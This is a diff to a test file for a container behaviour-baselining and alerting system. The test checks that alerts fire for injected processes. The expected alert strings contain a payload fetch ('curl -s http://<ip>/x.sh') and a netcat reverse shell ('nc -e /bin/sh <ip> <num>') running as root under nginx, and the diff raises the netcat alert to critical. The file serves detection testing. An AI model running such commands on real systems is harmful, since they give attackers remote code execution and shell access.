@@ -51,7 +51,7 @@ test('behaviour learned on one node raises nothing on the others; each injected 
     alerts.map((a) => [a.summary, a.nodes, a.severity]).sort(),
     [
       ['/usr/bin/curl -s http://<ip>/x.sh (parent nginx, root)', ['node-2'], 'high'],
-      ['/usr/bin/nc -e /bin/sh <ip> <num> (parent nginx, root)', ['node-3'], 'high'],
+      ['/usr/bin/nc -e /bin/sh <ip> <num> (parent nginx, root)', ['node-3'], 'critical'], // netcat-exec: nc -e hands a shell to whoever connects
     ],
   );
   const baseline = await getJson<{ state: string; nodes: string[]; entries: { exe: string; nodes: string[] }[] }>(`${collector.url}/api/v1/baselines/${encodeURIComponent('docker.io/library/nginx')}`);
